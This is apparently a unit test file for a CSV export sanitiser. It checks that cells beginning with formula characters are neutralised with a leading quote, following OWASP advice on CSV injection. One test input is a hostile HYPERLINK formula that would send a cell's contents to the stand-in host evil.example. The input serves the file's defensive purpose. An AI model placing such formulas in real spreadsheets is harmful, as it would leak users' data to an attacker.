import { csvField, csvLine } from './csv';

describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ['+1+2', "'+1+2"],
    ['-3+4', "'-3+4"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
  ])('neutralises the formula %j with a leading quote (OWASP)', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('leaves other text, numbers and JSON as they are', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField(-3)).toBe('-3');
    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"');
    expect(csvField(['-x'])).toBe('"[""-x""]"');
    expect(csvField(null)).toBe('');
    expect(csvField('comma, "quote"\nnewline')).toBe('"comma, ""quote""\nnewline"');
    expect(csvLine(['=1', 2, null])).toBe("'=1,2,\r\n");
  });
});
